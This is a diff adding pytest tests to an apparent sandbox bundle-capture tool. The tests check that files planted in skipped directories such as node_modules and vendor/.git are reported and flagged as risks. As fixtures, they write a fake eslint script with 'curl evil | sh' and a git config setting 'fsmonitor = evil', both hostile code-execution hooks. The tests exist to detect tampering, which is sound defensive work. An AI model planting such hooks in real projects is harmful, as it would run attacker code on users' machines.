@@ -131,3 +131,76 @@ def test_git_baseline_trusts_only_clean_files_and_never_hides_a_change(
     assert changes == {("lib/f7.php", status), ("lib/f3.php", "modified"), ("notes.txt", "added"),
                        ("cache/c.bin", "added")}
     assert verify_bundle(run_dir).valid
+
+
+def _capture(tmp_path: Path, mount: MountSpec, base: object) -> object:
+    run_dir = tmp_path / "run"
+    run_dir.mkdir()
+    return capture_bundle(
+        run_dir,
+        runtime=RuntimeInfo(id="rt", createdAt=utc_now_iso(), environment={}),
+        mounts=[mount], baselines=[base], policy=RuntimePolicy(commands=["wordpress.run-php"]),  # type: ignore[list-item]
+        metadata={}, secret_values=[], evidence=[], test_suites=[],
+    )
+
+
+def test_changes_inside_uncaptured_directories_are_reported(tmp_path: Path) -> None:
+    import json
+
+    source = tmp_path / "plugin"
+    (source / "node_modules" / "pkg").mkdir(parents=True)
+    (source / "node_modules" / "pkg" / "index.js").write_text("module.exports = 1;\n")
+    (source / "node_modules" / "old.js").write_text("old\n")
+    (source / "node_modules" / "keep.js").write_text("keep\n")
+    (source / "plugin.php").write_text("<?php\n")
+    mount = MountSpec(source=str(source), target="/wordpress/wp-content/plugins/p", mode="readwrite")
+    (base,) = take_baselines([mount], tmp_path / "scratch")
+    # what a sandbox could plant for the host to run later, none of it captured as file content
+    (source / "node_modules" / ".bin").mkdir()
+    (source / "node_modules" / ".bin" / "eslint").write_text("#!/bin/sh\ncurl evil | sh\n")
+    (source / "node_modules" / "pkg" / "index.js").write_text("module.exports = 2;\n")
+    (source / "node_modules" / "old.js").unlink()
+    (source / "vendor" / ".git").mkdir(parents=True)
+    (source / "vendor" / ".git" / "config").write_text("[core]\n\tfsmonitor = evil\n")
+    summary = _capture(tmp_path, mount, base)
+    reported = {(s["relativePath"], s.get("change")) for s in summary.skipped  # type: ignore[attr-defined]
+                if s["reason"] == "changed-in-skipped-directory"}
+    assert reported == {
+        ("node_modules/.bin/", "added"), ("node_modules/.bin/eslint", "added"),
+        ("node_modules/pkg/index.js", "modified"), ("node_modules/old.js", "deleted"),
+        ("vendor/.git/", "added"), ("vendor/.git/config", "added"),
+    }
+    review = json.loads((tmp_path / "run" / "files" / "review.json").read_text())
+    assert "changes-in-uncaptured-directories" in review["riskFlags"]
+    assert summary.changed_files == []  # type: ignore[attr-defined]
+    assert verify_bundle(tmp_path / "run").valid
+
+
+def test_own_git_folder_is_not_walked_but_a_created_one_is_reported(tmp_path: Path) -> None:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    (repo / "a.php").write_text("<?php\n")
+    _git(repo, "init", "-q")
+    _git(repo, "add", "-A")
+    _git(repo, "commit", "-q", "-m", "base")
+    mount = MountSpec(source=str(repo), target="/wordpress/wp-content/plugins/r", mode="readwrite")
+    (base,) = take_baselines([mount], tmp_path / "scratch")
+    assert base.skipped_exclude == frozenset({".git"})  # covered read-only inside the sandbox
+    (repo / ".git" / "description").write_text("the user's own git activity during the run\n")
+    summary = _capture(tmp_path, mount, base)
+    assert [s for s in summary.skipped if s["reason"] == "changed-in-skipped-directory"] == []  # type: ignore[attr-defined]
+
+    plain = tmp_path / "plain"
+    plain.mkdir()
+    (plain / "a.php").write_text("<?php\n")
+    mount = MountSpec(source=str(plain), target="/wordpress/wp-content/plugins/p", mode="readwrite")
+    (base,) = take_baselines([mount], tmp_path / "scratch2")
+    (plain / ".git" / "hooks").mkdir(parents=True)
+    (plain / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
+    run_dir = tmp_path / "run2"
+    run_dir.mkdir()
+    summary = capture_bundle(
+        run_dir, runtime=RuntimeInfo(id="rt", createdAt=utc_now_iso(), environment={}), mounts=[mount],
+        baselines=[base], policy=RuntimePolicy(commands=["wordpress.run-php"]), metadata={}, secret_values=[],
+        evidence=[], test_suites=[])
+    assert {s["relativePath"] for s in summary.skipped} == {".git/", ".git/hooks/", ".git/hooks/pre-commit"}
